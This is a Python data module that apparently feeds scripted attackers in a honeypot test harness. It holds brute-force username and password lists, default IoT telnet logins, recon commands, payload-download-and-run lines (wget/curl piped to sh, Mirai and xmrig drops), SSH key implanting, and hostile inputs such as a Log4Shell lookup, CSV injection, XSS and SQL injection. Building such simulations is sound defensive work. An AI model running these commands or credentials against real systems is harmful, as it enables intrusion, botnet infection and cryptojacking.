"""What the scripted attackers say: names, passwords, clients, commands, all from common knowledge."""

from __future__ import annotations

WEB = "http://127.0.0.1:{port}"

# Most wanted first: the attackers draw by rank, so that the head is long and the tail is thin.
USERNAMES = (
    "root admin user test ubuntu pi oracle postgres guest ftpuser git support mysql ubnt nagios tomcat hadoop www "
    "deploy jenkins minecraft teamspeak ec2-user dev backup zabbix ansible elastic docker steam sol weblogic odoo es "
    "vagrant debian centos kafka redis web anna john michael"
).split()

PASSWORDS = (
    "123456 admin root password 12345678 1234 12345 qwerty 123 1 test P@ssw0rd admin123 root123 123456789 abc123 "
    "111111 raspberry ubnt 1q2w3e4r password123 toor changeme qwe123 letmein 000000 user support oracle postgres "
    "1qaz2wsx Passw0rd! 123123 654321 master dragon football iloveyou monkey sunshine admin@123 !QAZ2wsx root@123 "
    "server ubuntu guest hadoop nagios P@$$w0rd zaq12wsx 88888888 666666 a123456 linux default"
).split()

TELNET_LOGINS = (
    "root:xc3511 root:vizxv root:admin admin:admin root:888888 root:xmhdipc root:default root:juantech root:123456 "
    "root:54321 support:support root: admin:password root:root root:12345 user:user admin: root:pass "
    "admin:admin1234 root:1111 admin:smcadmin admin:1111 root:666666 root:password root:1234 root:klv123 "
    "Administrator:admin service:service supervisor:supervisor guest:guest guest:12345 admin1:password "
    "administrator:1234 666666:666666 888888:888888 ubnt:ubnt root:klv1234 root:Zte521 root:hi3518 root:jvbzd "
    "root:anko root:zlxx. root:7ujMko0vizxv root:7ujMko0admin root:system root:ikwb root:dreambox root:user "
    "root:realtek root:00000000 admin:1111111 admin:1234 admin:12345 admin:54321 admin:123456 admin:7ujMko0admin "
    "admin:pass admin:meinsm tech:tech"
).split()

# Name the client gives itself, and what it offers: together they make its HASSH.
CLIENTS: tuple[tuple[str, dict[str, list[str]]], ...] = (
    (
        "Go",
        {
            "kex_algs": ["curve25519-sha256", "ecdh-sha2-nistp256", "diffie-hellman-group14-sha256"],
            "encryption_algs": ["aes128-gcm@openssh.com", "chacha20-poly1305@openssh.com", "aes128-ctr"],
            "mac_algs": ["hmac-sha2-256-etm@openssh.com", "hmac-sha2-256", "hmac-sha1"],
        },
    ),
    (
        "libssh2_1.10.0",
        {
            "kex_algs": ["ecdh-sha2-nistp256", "ecdh-sha2-nistp384", "diffie-hellman-group14-sha1"],
            "encryption_algs": ["aes256-ctr", "aes192-ctr", "aes128-ctr", "aes256-cbc", "aes128-cbc"],
            "mac_algs": ["hmac-sha2-256", "hmac-sha2-512", "hmac-sha1"],
        },
    ),
    (
        "libssh_0.9.6",
        {
            "kex_algs": ["curve25519-sha256", "ecdh-sha2-nistp521", "diffie-hellman-group16-sha512"],
            "encryption_algs": ["chacha20-poly1305@openssh.com", "aes256-gcm@openssh.com", "aes256-ctr"],
            "mac_algs": ["hmac-sha2-256-etm@openssh.com", "hmac-sha2-512"],
        },
    ),
    ("OpenSSH_8.9p1 Ubuntu-3ubuntu0.10", {}),
    (
        "PUTTY",
        {
            "kex_algs": ["ecdh-sha2-nistp256", "diffie-hellman-group14-sha256"],
            "encryption_algs": ["aes256-ctr", "aes128-ctr"],
            "mac_algs": ["hmac-sha2-256"],
        },
    ),
    ("paramiko_2.11.0", {"encryption_algs": ["aes128-ctr", "aes256-ctr"], "mac_algs": ["hmac-sha2-256"]}),
)

RECON = (
    "uname -a",
    "cat /proc/cpuinfo | grep name | wc -l",
    "cat /proc/cpuinfo | grep name | head -n 1 | awk '{print $4,$5,$6,$7,$8,$9;}'",
    "free -m | grep Mem | awk '{print $2 ,$3, $4, $5, $6, $7}'",
    "ls -lh $(which ls)",
    "which ls",
    "crontab -l",
    "w",
    "uname -m",
    "top",
    "uname",
    "whoami",
    "lscpu | grep Model",
    "df -h | head -n 2 | awk 'FNR == 2 {print $2;}'",
    "id",
    "nproc",
    "uptime",
    "/bin/busybox cat /proc/mounts",
    "cat /etc/passwd",
    "ps aux | grep -v grep | grep xmrig",
    "nvidia-smi -q | grep 'Product Name'",
    "dmidecode -t processor",
    "history -c",
)

DROPS = (
    "cd /tmp || cd /var/run || cd /mnt || cd /root || cd /; "
    "wget {web}/bins.sh; chmod 777 bins.sh; sh bins.sh; rm -rf bins.sh",
    "curl -s -L {web}/x86 -o /tmp/.x; chmod +x /tmp/.x; /tmp/.x ssh",
    "wget -q {web}/miner/xmrig.tar.gz -O /var/tmp/x.tgz; tar xf /var/tmp/x.tgz -C /var/tmp",
    "wget {web}/gone/bot.arm7 -O /tmp/bot; chmod 777 /tmp/bot; /tmp/bot",
    "curl -O http://127.0.0.1:9/closed",
    "wget http://198.51.100.77/i.sh -O- | sh",
)

KEY_DROP = (
    "cd ~; chattr -ia .ssh; lockr -ia .ssh",
    'cd ~ && rm -rf .ssh && mkdir .ssh && echo "ssh-rsa AAAAB3NzaC1yc2EAAAABIwAAAQEAsample{number} sample">>'
    ".ssh/authorized_keys && chmod -R go= ~/.ssh && cd ~",
    'echo "root:{password}"|chpasswd|bash',
    "rm -rf /tmp/secure.sh; rm -rf /tmp/auth.sh; pkill -9 secure.sh; pkill -9 auth.sh; echo > /etc/hosts.deny",
)

MIRAI = (
    "enable",
    "system",
    "shell",
    "sh",
    "cat /proc/mounts; /bin/busybox {token}",
    "cd /dev/shm; cat .s || cp /bin/echo .s; /bin/busybox {token}",
    "tftp; wget; /bin/busybox {token}",
    "dd bs=52 count=1 if=.s || cat .s || while read i; do echo $i; done < .s",
    "/bin/busybox wget {web}/bins/mirai.{arch} -O - > dvrHelper; "
    "/bin/busybox chmod 777 dvrHelper; ./dvrHelper telnet.{arch}",
    "rm .s; exit",
)

ARCHITECTURES = ("arm7", "arm", "mips", "mpsl", "x86", "sh4", "ppc")

TYPED = (
    "ls -la",
    "pwd",
    "cd /var/www; ls",
    "cat /etc/os-release",
    "ifconfig",
    "netstat -antp | head",
    "echo hello > /tmp/hello; cat /tmp/hello",
    "python3 -c 'print(1)'",
    "sudo su",
    "vi /etc/crontab",
    "ping -c 1 192.0.2.1",
)

# Bytes that want to break a reader, a terminal, a page or a spreadsheet.
HOSTILE_TEXT = (
    "\x1b[2J\x1b]0;owned\x07",
    "a\x00b",
    "<script>alert(1)</script>",
    "=cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "\u202egpj.exe\u2066",
    "'; DROP TABLE sessions; --",
    '{"eventid":"cowrie.login.success","username":"root"}',
    "line\r\nbreak\u2028here",
    "üñí 日本語 🐚",
    "%(username)s %s %n",
    "${jndi:ldap://203.0.113.66/a}",
    "../../../../etc/passwd",
    "A" * 700,
    "\\x41\\",
    "",
)

HOSTILE_BANNERS = (
    b"GET / HTTP/1.1\r\nHost: 198.51.100.10:22\r\nUser-Agent: Mozilla/5.0 zgrab/0.x\r\n\r\n",
    b"\x16\x03\x01\x00\x75\x01\x00\x00\x71\x03\x03" + bytes(range(40)) + b"\r\n",
    b"SSH-2.0-\x1b[31mred\x1b[0m\r\n",
    b"SSH-2.0-<script>alert(1)</script>\r\n",
    b"\x00\x00\x00\x00\r\n",
    b"SSH-1.5-scanner\r\n",
    b"OPTIONS sip:nm SIP/2.0\r\n",
    b"\xff\xfe\xfd caf\xe9\r\n",
    b"MGLNDD_198.51.100.10_22\n",
    b"SSH-2.0-ZGrab ZGrab SSH Survey\r\n",
)

FORWARDS: tuple[tuple[str, int, bytes], ...] = (
    ("ya.ru.example", 80, b"GET / HTTP/1.1\r\nHost: ya.ru.example\r\nConnection: close\r\n\r\n"),
    ("www.example.com", 443, b""),
    ("mail.example.net", 25, b"EHLO sample.invalid\r\n"),
    ("203.0.113.80", 80, b"GET http://ip.example.org/ HTTP/1.0\r\nCookie: a=b\r\n\r\n"),
    ("2001:db8::25", 25, b"EHLO x\r\n"),
    ("198.51.100.44", 443, b""),
    (
        "www.example.org",
        80,
        b"POST /login HTTP/1.1\r\nHost: www.example.org\r\nContent-Length: 9\r\n\r\nuser=\x00\xff\x1b",
    ),
    ("h\nx\x1b[0m", 80, b"binary \x00\x01\x02\xfe"),
)

FILES = ("dota3.tar.gz", "sshd", ".x", "miner", "config.json", "tsm32", "run.sh", "empty")
